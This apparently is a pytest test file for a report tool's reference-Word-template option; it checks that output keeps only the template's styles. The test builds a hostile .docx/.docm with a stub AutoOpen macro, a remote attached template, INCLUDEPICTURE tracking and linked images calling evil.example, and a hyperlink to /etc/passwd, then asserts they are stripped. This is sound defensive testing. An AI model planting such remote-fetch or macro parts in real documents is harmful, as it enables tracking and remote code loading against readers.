"""``--reference-docx``: a report takes the model's styles and nothing else of it.

The model is a real Word file into which everything Word would act on is added: a macro
project (and the .docm content type), a template attached from a server, an external
hyperlink, a picture linked from outside, an embedded OLE object, an ActiveX control,
custom XML and custom properties, a header with an INCLUDEPICTURE field, an embedded
font and a picture bullet. The report must have exactly the parts of a report made
without a model, no external relationship, and the model's styles.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from docx import Document
from docx.shared import Pt

from conftest import EXAMPLE_BLANKS, EXAMPLE_PLAN, invoke

DOCX = ["report", "--plan", EXAMPLE_PLAN, "--year", "2025", "--date", "2025-11-10", "--format", "docx"]
EVIL = "evil.example"
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def rel(rid: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def rels(*items: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + b"".join(items)
        + b"</Relationships>"
    )


def hostile_parts(parts: dict[str, bytes], main_type: str) -> dict[str, bytes]:
    """The parts of a plain .docx with every unsafe thing added (``main_type``: .docx or .docm)."""
    parts = dict(parts)
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(WORD_DOCUMENT.encode(), main_type.encode())
        .replace(
            b"<Default ",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            b'<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
            b'<Default Extension="png" ContentType="image/png"/><Default ',
            1,
        )
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro AutoOpen Shell(" + EVIL.encode() + b")"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 ole"
    parts["word/activeX/activeX1.xml"] = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    parts["word/fonts/font1.odttf"] = b"font"
    parts["word/media/bullet.png"] = b"\x89PNG bullet"
    parts["customXml/item2.xml"] = f"<secret>{EVIL}</secret>".encode()
    parts["docProps/custom.xml"] = f"<Properties><property name='x'>{EVIL}</property></Properties>".encode()
    parts["word/header1.xml"] = (
        f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>'
        f"<w:fldSimple w:instr='INCLUDEPICTURE \"http://{EVIL}/track.png\" \\d'/></w:p></w:hdr>"
    ).encode()
    document_rels = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        rel("rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
        + rel("rIdH", f"{RT}/hyperlink", "file:///etc/passwd", external=True)
        + rel("rIdI", f"{RT}/image", f"http://{EVIL}/linked.png", external=True)
        + rel("rIdO", f"{RT}/oleObject", "embeddings/oleObject1.bin")
        + rel("rIdX", f"{RT}/control", "activeX/activeX1.xml")
        + rel("rIdC", f"{RT}/customXml", "../customXml/item2.xml")
        + rel("rIdHd", f"{RT}/header", "header1.xml")
        + b"</Relationships>",
    )
    parts["word/_rels/document.xml.rels"] = document_rels
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT"/><w:zoom ', 1
    )
    parts["word/_rels/settings.xml.rels"] = rels(
        rel("rIdT", f"{RT}/attachedTemplate", f"http://{EVIL}/normal.dotm", external=True)
    )
    parts["word/fontTable.xml"] = parts["word/fontTable.xml"].replace(
        b"</w:font>", b'<w:embedRegular r:id="rIdF" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>', 1
    )
    parts["word/_rels/fontTable.xml.rels"] = rels(rel("rIdF", f"{RT}/font", "fonts/font1.odttf"))
    parts["word/numbering.xml"] = re.sub(
        rb"(<w:numbering [^>]*>)",
        rb'\1<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape id="b" style="width:9pt;height:9pt">'
        rb'<v:imagedata r:id="rIdB" o:title=""/></v:shape></w:pict></w:numPicBullet>',
        parts["word/numbering.xml"],
        count=1,
    )
    parts["word/_rels/numbering.xml.rels"] = rels(rel("rIdB", f"{RT}/image", "media/bullet.png"))
    return parts


def model(path: Path, main_type: str | None = None) -> Path:
    """A department's Word model: Arial 13 for the body, Arial for headings (with ``main_type``, the rest)."""
    plain = path.with_suffix(".plain.docx")
    own = Document()
    own.styles["Normal"].font.name = "Arial"
    own.styles["Normal"].font.size = Pt(13)
    own.styles["Heading 1"].font.name = "Arial"
    own.add_paragraph(f"nội dung của mẫu, xem http://{EVIL}")
    own.save(str(plain))
    with zipfile.ZipFile(plain) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    if main_type is not None:
        parts = hostile_parts(parts, main_type)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture(scope="module")
def plain_report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    out = tmp_path_factory.mktemp("plain") / "bao-cao.docx"
    invoke([*DOCX, "-o", out], 0)
    return parts_of(out)


@pytest.fixture(scope="module", params=[WORD_DOCUMENT, MACRO_DOCUMENT], ids=["docx", "docm"])
def report(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    out = folder / "bao-cao.docx"
    result = invoke([*DOCX, "--reference-docx", model(folder / "mau.docx", request.param), "-o", out], 0)
    assert result.stderr == f"{EXAMPLE_BLANKS}Đã ghi báo cáo Word: {out}\n"
    return out


def test_the_report_has_the_parts_of_a_report_without_a_model(report: Path, plain_report: dict[str, bytes]) -> None:
    assert sorted(parts_of(report)) == sorted(plain_report)
    assert "customXml/item1.xml" not in plain_report  # python-docx's own bibliography part is not kept either


def test_nothing_of_the_model_but_its_styles_is_in_the_report(report: Path) -> None:
    parts = parts_of(report)
    everything = b"".join(parts.values())
    for unsafe in (
        b'TargetMode="External"',
        b"macroEnabled",
        b"vbaProject",
        b"attachedTemplate",
        b"INCLUDEPICTURE",
        b"oleObject",
        b"activeX",
        b"embedRegular",
        b"numPicBullet",
        b"lvlPicBulletId",
        EVIL.encode(),
        "nội dung của mẫu".encode(),
    ):
        assert unsafe not in everything, unsafe
    for name in ("word/styles.xml", "word/numbering.xml", "word/fontTable.xml", "word/theme/theme1.xml"):
        assert f"{name.rpartition('/')[0]}/_rels/{name.rpartition('/')[2]}.rels" not in parts


def test_the_models_styles_apply(report: Path) -> None:
    doc = Document(str(report))
    assert doc.styles["Normal"].font.name == "Arial"
    assert doc.styles["Normal"].font.size == Pt(13)
    assert doc.styles["Heading 1"].font.name == "Arial"
    assert doc.styles["Heading 1"].paragraph_format.keep_with_next is True
    assert round(doc.sections[0].left_margin.mm) == 30  # the page set-up stays Decree 30's
    headings = [p.text for p in doc.paragraphs if p.style is not None and p.style.name == "Heading 1"]
    assert headings[0] == "I. CÔNG TÁC CHỈ ĐẠO, TRIỂN KHAI"


@pytest.mark.parametrize(
    "content_type",
    [
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",  # .dotx
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",  # .dotm
    ],
)
def test_a_word_template_gives_its_styles_too(tmp_path: Path, content_type: str) -> None:
    path = model(tmp_path / "mau.dotx")
    parts = parts_of(path)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(WORD_DOCUMENT.encode(), content_type.encode())
    with zipfile.ZipFile(path, "w") as out:
        for name, data in parts.items():
            out.writestr(name, data)
    out = tmp_path / "bao-cao.docx"
    invoke([*DOCX, "--reference-docx", path, "-o", out], 0)
    assert Document(str(out)).styles["Normal"].font.name == "Arial"


def test_a_workbook_is_not_a_word_model(tmp_path: Path) -> None:
    """A spreadsheet has styles too (xl/styles.xml, same relationship type): it is refused, not taken."""
    import openpyxl

    path = tmp_path / "mau.docx"
    openpyxl.Workbook().save(path)
    out = tmp_path / "bao-cao.docx"
    result = invoke([*DOCX, "--reference-docx", path, "-o", out], 1)
    assert result.output == (
        f"kh68: lỗi: tệp Word mẫu '{path}' (--reference-docx) không phải văn bản Word (thiếu phần nội dung hoặc "
        "kiểu chữ); mở bằng Word và lưu lại dạng .docx\n"
    )
    assert not out.exists()
